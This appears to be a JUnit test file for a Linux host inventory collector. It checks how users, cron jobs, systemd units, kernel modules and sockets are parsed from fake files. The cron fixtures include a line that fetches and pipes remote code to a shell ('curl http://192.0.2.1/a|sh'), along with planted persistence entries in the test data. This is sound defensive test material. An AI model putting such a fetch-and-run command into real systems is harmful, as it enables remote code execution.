/*
 * SPDX-License-Identifier: Apache-2.0
 * Copyright The Acheron Authors
 */
package io.acheron.collector.inventory;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.acheron.collector.host.Cgroups;
import io.acheron.collector.host.ProcessReader;
import io.acheron.collector.host.UserNames;
import io.acheron.schema.inventory.CronItem;
import io.acheron.schema.inventory.KernelModuleItem;
import io.acheron.schema.inventory.ProcessItem;
import io.acheron.schema.inventory.SocketItem;
import io.acheron.schema.inventory.SystemdUnitItem;
import io.acheron.schema.inventory.UserItem;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.avro.specific.SpecificRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What inventories make of files, and of this very process. */
class InventoryContentTest {
    private static final int SELF = (int) ProcessHandle.current().pid();

    @TempDir
    Path root;

    @Test
    void shouldTellUsersWithoutTheirSecrets() throws Exception {
        write(
                "etc/passwd",
                "root:x:0:0:root:/root:/bin/bash\nweb:x:33:33::/var/www:/usr/sbin/nologin\n"
                        + "open::7:7::/:/bin/sh\nold:ab0123456789.:8:8::/:/bin/sh\nbroken:x:y\nkeys:x:9:9::/home/keys:/bin/sh\n");
        write(
                "etc/shadow",
                "root:$y$j9T$salt$secrethash:19000:0:99999:7:::\nweb:*:18000::::::\nkeys:!$6$s$secrethash:1::::::\n");
        write("etc/group", "root:x:0:\nwww:x:33:\nsudo:x:27:keys,web\nadm:x:4:keys\n");
        byte[] lastlog = new byte[292];
        ByteBuffer.wrap(lastlog)
                .order(ByteOrder.nativeOrder())
                .putInt(1_700_000_000)
                .position(36)
                .put("192.0.2.7".getBytes("US-ASCII"));
        write("var/log/lastlog", "");
        Files.write(root.resolve("var/log/lastlog"), lastlog);

        List<UserItem> users = take(new Users(), UserItem.class);

        assertThat(users)
                .extracting(UserItem::getName, UserItem::getPassword, UserItem::getPasswordAlgorithm)
                .containsExactly(
                        tuple("root", "set", "yescrypt"),
                        tuple("web", "none", ""),
                        tuple("open", "empty", ""),
                        tuple("old", "set", "des"),
                        tuple("keys", "locked", "sha512"));
        assertThat(users.toString()).doesNotContain("secret").doesNotContain("ab0123456789");
        assertThat(users.get(0).getLastLogin().getEpochSecond()).isEqualTo(1_700_000_000);
        assertThat(users.get(0).getLastLoginFrom()).isEqualTo("192.0.2.7");
        assertThat(users.get(1).getLastLogin().getEpochSecond()).isZero();
        assertThat(users.get(1).getGroupName()).isEqualTo("www");
        assertThat(users.get(4).getGroups()).containsExactly("adm", "sudo");
        assertThat(users.get(0).getPasswordChangedDay()).isEqualTo(19000);
        Files.delete(root.resolve("etc/shadow"));
        assertThat(take(new Users(), UserItem.class).get(0).getPassword()).isEqualTo("unknown");
    }

    @Test
    void shouldReadCrontabsAndScripts() throws Exception {
        write(
                "etc/crontab",
                "SHELL=/bin/sh\n# comment\n17 *\t* * *   root  cd / && run-parts /etc/cron.hourly\nnot a job\n");
        write("etc/cron.d/evil", "@reboot nobody /tmp/.x/run --quiet\n* * * * * root curl http://192.0.2.1/a|sh\n");
        write("var/spool/cron/crontabs/eve", "*/5 0-3,7 * jan sun echo hello = world\nMAILTO=x@y\n");
        write("etc/cron.daily/backup", "#!/bin/sh\n");
        write("etc/cron.daily/.placeholder", "");

        assertThat(take(new CronJobs(), CronItem.class))
                .extracting(
                        it -> root.relativize(Path.of(it.getPath())).toString(),
                        CronItem::getLine,
                        CronItem::getSchedule,
                        CronItem::getUser,
                        CronItem::getCommand)
                .containsExactly(
                        tuple("etc/crontab", 3, "17 * * * *", "root", "cd / && run-parts /etc/cron.hourly"),
                        tuple("etc/cron.d/evil", 1, "@reboot", "nobody", "/tmp/.x/run --quiet"),
                        tuple("etc/cron.d/evil", 2, "* * * * *", "root", "curl http://192.0.2.1/a|sh"),
                        tuple("var/spool/cron/crontabs/eve", 1, "*/5 0-3,7 * jan sun", "eve", "echo hello = world"),
                        tuple(
                                "etc/cron.daily/backup",
                                0,
                                "daily",
                                "root",
                                root.resolve("etc/cron.daily/backup").toString()));
    }

    @Test
    void shouldReadUnitsFromTheDirectoryThatWins() throws Exception {
        write(
                "usr/lib/systemd/system/web.service",
                "[Unit]\nDescription=Web\n[Service]\nUser=www\nExecStart=/usr/bin/web \\\n --port 80\n");
        write("etc/systemd/system/web.service.d/override.conf", "[Service]\nExecStartPre=/tmp/evil\n");
        write("usr/lib/systemd/system/off.service", "[Service]\nExecStart=/bin/off\n");
        Files.createSymbolicLink(root.resolve("etc/systemd/system/off.service"), Path.of("/dev/null"));
        write("etc/systemd/system/beacon.timer", "[Timer]\nOnCalendar=*:0/5\nUnit=beacon.service\n");
        Path wants = Files.createDirectories(root.resolve("etc/systemd/system/multi-user.target.wants"));
        Files.createSymbolicLink(wants.resolve("web.service"), Path.of("/usr/lib/systemd/system/web.service"));

        List<SystemdUnitItem> units = take(new SystemdUnits(), SystemdUnitItem.class);

        assertThat(units)
                .extracting(SystemdUnitItem::getName, SystemdUnitItem::getEnabled, SystemdUnitItem::getMasked)
                .containsExactlyInAnyOrder(
                        tuple("beacon.timer", false, false),
                        tuple("off.service", false, true),
                        tuple("web.service", true, false));
        SystemdUnitItem web = units.stream()
                .filter(it -> it.getName().equals("web.service"))
                .findFirst()
                .orElseThrow();
        assertThat(web.getDescription()).isEqualTo("Web");
        assertThat(web.getUser()).isEqualTo("www");
        assertThat(web.getCommands()).containsExactly("ExecStart=/usr/bin/web   --port 80", "ExecStartPre=/tmp/evil");
        assertThat(web.getDropIns()).hasSize(1);
        assertThat(web.getModifiedNs()).isPositive();
    }

    @Test
    void shouldTellModulesThatHide() throws Exception {
        write(
                "proc/modules",
                "nfnetlink 20480 2 nf_tables,x_tables, Live 0x0000000000000000\nrootkit 4096 0 - Live 0x0 (OE)\n");
        write("sys/module/nfnetlink/initstate", "live\n");
        write("sys/module/hidden/initstate", "live\n");
        write("sys/module/hidden/taint", "O\n");
        write("sys/module/builtin/uevent", "");

        assertThat(take(new KernelModules(), KernelModuleItem.class))
                .extracting(KernelModuleItem::getName, KernelModuleItem::getListed, KernelModuleItem::getTaint)
                .containsExactly(
                        tuple("hidden", List.of("sys"), "O"),
                        tuple("nfnetlink", List.of("proc", "sys"), ""),
                        tuple("rootkit", List.of("proc"), "OE"));
    }

    @Test
    void shouldTellThisProcessAndItsDoor() throws Exception {
        HostView here = HostView.ofThisHost("5f3a2b1c-0001-0002-0003-000000000004");
        List<SpecificRecord> processes = new ArrayList<>();
        new Processes().take(here, processes::add);
        assertThat(processes).anySatisfy(it -> {
            ProcessItem item = (ProcessItem) it;
            assertThat(item.getProcess().getPid()).isEqualTo(SELF);
            assertThat(item.getExecutable().getInode()).isPositive();
            assertThat(item.getThreads()).isGreaterThan(1);
            assertThat(item.getResidentBytes()).isGreaterThan(1 << 20);
            assertThat(item.getCpuMs()).isPositive();
            assertThat(item.getState()).hasSize(1);
        });
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getByName("127.0.0.1"));
                Socket client = new Socket(server.getInetAddress(), server.getLocalPort())) {
            List<SpecificRecord> doors = new ArrayList<>();
            new ListeningPorts().take(here, doors::add);
            assertThat(doors).anySatisfy(it -> isHeldHere((SocketItem) it, server.getLocalPort()));
            assertThat(doors).noneMatch(it -> ((SocketItem) it).getSocket().getLocalPort() == client.getLocalPort());
            List<SpecificRecord> sockets = new ArrayList<>();
            new Sockets().take(here, sockets::add);
            assertThat(sockets).anySatisfy(it -> isHeldHere((SocketItem) it, client.getLocalPort()));
        }
    }

    private static void isHeldHere(SocketItem item, int port) {
        assertThat(item.getSocket().getLocalPort()).isEqualTo(port);
        assertThat(item.getHolder().getPid()).isEqualTo(SELF);
        assertThat(item.getNetNamespace()).isPositive();
        assertThat(item.getUid()).isNotNegative();
    }

    private <T> List<T> take(Inventory inventory, Class<T> type) throws IOException {
        HostView view = new HostView(root, ProcessReader.ofThisHost("x"), UserNames.ofThisHost(), Cgroups.ofThisHost());
        List<T> items = new ArrayList<>();
        inventory.take(view, it -> items.add(type.cast(it)));
        return items;
    }

    private void write(String path, String text) throws IOException {
        Path file = root.resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }
}
